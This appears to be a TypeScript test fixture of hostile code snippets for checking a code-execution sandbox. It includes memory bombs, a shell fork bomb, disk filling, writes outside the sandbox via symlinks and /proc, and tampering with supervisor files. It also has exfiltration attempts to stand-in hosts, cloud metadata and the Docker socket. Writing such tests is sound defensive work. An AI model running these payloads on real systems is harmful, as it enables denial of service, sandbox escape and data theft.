// Families that use up what there is, and that would carry something out.

import { deserved, type Hostile, type Variant, wrong } from "./kinds.js";

const memory: Variant[] = [
  ["buffers", "const kept: Buffer[] = []; for (;;) kept.push(Buffer.alloc(2e7, 1));"],
  ["objects", "const kept: unknown[] = []; for (;;) kept.push({ a: Math.random(), b: [1, 2, 3] });"],
  ["one string", "let text = 'x'; for (;;) text += text + Math.random();"],
  [
    "shared memory",
    "const kept: unknown[] = []; for (;;) kept.push(new Uint8Array(new SharedArrayBuffer(5e7)).fill(1));",
  ],
  [
    "WebAssembly",
    "const kept: unknown[] = []; for (;;) { const m = new (globalThis as any).WebAssembly.Memory({ initial: 1000 }); new Uint8Array(m.buffer).fill(1); kept.push(m); }",
  ],
  [
    "when called",
    "var add: any = () => { const kept: Buffer[] = []; for (;;) kept.push(Buffer.alloc(2e7, 1)); }",
  ],
  ["a large value", "var add: any = () => 'x'.repeat(4e8)"],
  ["many values", "var add: any = () => Array.from({ length: 3e6 }, (_, i) => ({ i }))"],
  [
    "children",
    "import { spawn } from 'node:child_process'; for (let i = 0; i < 10; i++) spawn(process.execPath, ['-e', 'const k=[];for(;;)k.push(Buffer.alloc(1e7,1))'], { detached: true });",
  ],
];
const processes: Variant[] = [
  [
    "fork bomb of a shell",
    "import { spawn } from 'node:child_process'; spawn('/bin/sh', ['-c', 'b() { b | b & }; b'], { detached: true, stdio: 'ignore' }); await new Promise((r) => setTimeout(r, 1500));",
  ],
  [
    "spawn in a loop",
    "import { spawn } from 'node:child_process'; for (let i = 0; i < 2000; i++) spawn('/bin/sleep', ['100'], { detached: true }).on('error', () => {}).unref();",
  ],
  [
    "fork of itself",
    "import { fork } from 'node:child_process'; import fs from 'node:fs'; fs.writeFileSync('/tmp/f.cjs', \"const c=require('child_process');for(;;)try{c.fork('/tmp/f.cjs').on('error',()=>{})}catch{}\"); fork('/tmp/f.cjs').on('error', () => {}); await new Promise((r) => setTimeout(r, 1500));",
  ],
  [
    "threads",
    "import { Worker } from 'node:worker_threads'; for (let i = 0; i < 300; i++) new Worker('for(;;);', { eval: true }).on('error', () => {}).unref();",
  ],
  [
    "daemons that stay",
    "import { spawn } from 'node:child_process'; spawn('/bin/sh', ['-c', 'setsid sleep 1000 & disown; setsid sh -c \"while :; do sleep 1; done\" &'], { detached: true }).unref();",
  ],
];
const disk: Variant[] = [
  [
    "its own folder",
    "import fs from 'node:fs'; for (let i = 0; ; i++) fs.appendFileSync('x' + (i % 9), Buffer.alloc(1e6, 1));",
  ],
  [
    "/tmp",
    "import fs from 'node:fs'; for (let i = 0; ; i++) fs.appendFileSync('/tmp/x' + (i % 9), Buffer.alloc(1e6, 1));",
  ],
  [
    "/dev/shm",
    "import fs from 'node:fs'; for (let i = 0; ; i++) fs.appendFileSync('/dev/shm/x' + (i % 9), Buffer.alloc(1e6, 1));",
  ],
  [
    "/etc",
    "import fs from 'node:fs'; for (let i = 0; ; i++) fs.appendFileSync('/etc/x' + (i % 9), Buffer.alloc(1e6, 1));",
  ],
  [
    "many files",
    "import fs from 'node:fs'; for (let i = 0; i < 2e5; i++) fs.writeFileSync('/tmp/f' + i, '');",
  ],
  ["a sparse file", "import fs from 'node:fs'; fs.writeFileSync('big', ''); fs.truncateSync('big', 1e12);"],
  [
    "outside",
    "import fs from 'node:fs'; for (const p of ['/pwned', '/usr/pwned', '/wirebook/pwned', '/wirebook/dist/pwned', '/seed/pwned', '/root/pwned', '/var/tmp/pwned', '/door/pwned', '../pwned', '../../pwned', '/proc/1/root/pwned']) try { fs.writeFileSync(p, 'x'); console.log('wrote', p); } catch (e) { console.log(String(e)); }",
  ],
  [
    "outside by links",
    "import fs from 'node:fs'; for (const p of ['/', '/proc/1/cwd', '/proc/1/root', '/proc/self/root']) try { fs.symlinkSync(p, 'l' + p.length); fs.writeFileSync('l' + p.length + '/pwned', 'x'); } catch (e) { console.log(String(e)); }",
    "import fs from 'node:fs'; for (const p of ['../..', process.env.HOME ?? '/']) try { fs.symlinkSync(p, 'l' + p.length); fs.writeFileSync('l' + p.length + '/pwned', 'x'); } catch (e) { console.log(String(e)); }",
  ],
  [
    "the kernel itself",
    "import fs from 'node:fs'; for (const f of ['/wirebook/dist/supervisor.js', '/wirebook/dist/checker.js', process.execPath, '/wirebook/package.json']) try { fs.appendFileSync(f, '//pwned'); console.log('wrote', f); } catch (e) { console.log(String(e)); }",
    "import fs from 'node:fs'; for (const f of fs.readFileSync('/proc/' + process.ppid + '/cmdline', 'utf8').split('\\0')) if (f.endsWith('.js')) try { fs.appendFileSync(f, '//pwned'); console.log('wrote', f); } catch (e) { console.log(String(e)); }",
  ],
];
const output: Variant[] = [
  ["stdout", "for (;;) console.log('x'.repeat(1000));"],
  ["stderr", "for (;;) console.error('x'.repeat(1000));"],
  ["one line", "console.log('x'.repeat(2e8)); await new Promise(() => {});"],
  ["displays", "for (;;) display('x'.repeat(10000));"],
  ["in the background", "setInterval(() => console.log('x'.repeat(100000)), 1);"],
  ["raw", "import { spawn } from 'node:child_process'; spawn('/usr/bin/yes', [], { stdio: 'inherit' });"],
  ["a deep value", "let deep: any = []; for (let i = 0; i < 1e5; i++) deep = [deep]; deep"],
];
const loops: Variant[] = [
  ["for", "for (;;) {}"],
  ["microtasks", "for (;;) await null;"],
  ["a promise", "await new Promise(() => {})"],
  ["a regular expression", "/^(a+)+$/.test('a'.repeat(40) + 'b')"],
  ["Atomics.wait", "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)"],
  ["one that catches all", "for (;;) try { for (;;); } catch {} finally { continue; }"],
  ["execSync", "import { execSync } from 'node:child_process'; execSync('sleep 1000')"],
  ["when called", "var add: any = () => { for (;;); }"],
  ["when called, later", "var add: any = async () => { await null; for (;;); }"],
  ["timers", "setInterval(() => { const end = Date.now() + 200; while (Date.now() < end); }, 1)"],
  ["nextTick", "const again = () => process.nextTick(again); again();"],
];
const out: Variant[] = [
  [
    "to this machine",
    "import net from 'node:net'; net.connect(Number('OUTSIDE_PORT'), '127.0.0.1').on('error', (e) => console.log(String(e))).end('exfiltrated');",
  ],
  [
    "to this machine, IPv6",
    "import net from 'node:net'; net.connect(Number('OUTSIDE_PORT'), '::1').on('error', (e) => console.log(String(e))).end('exfiltrated');",
  ],
  [
    "by UDP",
    "import dgram from 'node:dgram'; dgram.createSocket('udp4').on('error', () => {}).send('exfiltrated', Number('OUTSIDE_PORT'), '127.0.0.1');",
  ],
  [
    "over HTTP",
    "await fetch('http://127.0.0.1:OUTSIDE_PORT/?exfiltrated').catch((e) => console.log(String(e)))",
  ],
  [
    "to the Internet",
    "await fetch('http://192.0.2.1/', { signal: AbortSignal.timeout(1500) }).catch((e) => console.log(String(e)))",
  ],
  [
    "by names",
    "import dns from 'node:dns'; dns.resolve('exfiltrated.example', (e) => console.log(String(e))); dns.lookup('exfiltrated.example', (e) => console.log(String(e)));",
  ],
  [
    "to metadata",
    "await fetch('http://169.254.169.254/latest/meta-data/', { signal: AbortSignal.timeout(1500) }).catch((e) => console.log(String(e)))",
  ],
  [
    "by curl",
    "import { spawnSync } from 'node:child_process'; console.log(String(spawnSync('curl', ['-m', '1', 'http://127.0.0.1:OUTSIDE_PORT/?exfiltrated']).stderr));",
  ],
  [
    "to docker",
    "import net from 'node:net'; for (const p of ['/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0']) net.connect(p).on('error', (e) => console.log(String(e))).on('connect', () => console.log('pwned', p));",
  ],
];

export const greed: Hostile[] = [
  ...wrong("memory", memory),
  ...wrong("processes", processes),
  ...wrong("disk", disk),
  ...wrong("output", output),
  ...wrong("endless", loops),
  ...wrong("carry out", out),
  ...deserved("disk", disk.slice(5, 9)),
  ...deserved("carry out", out),
];
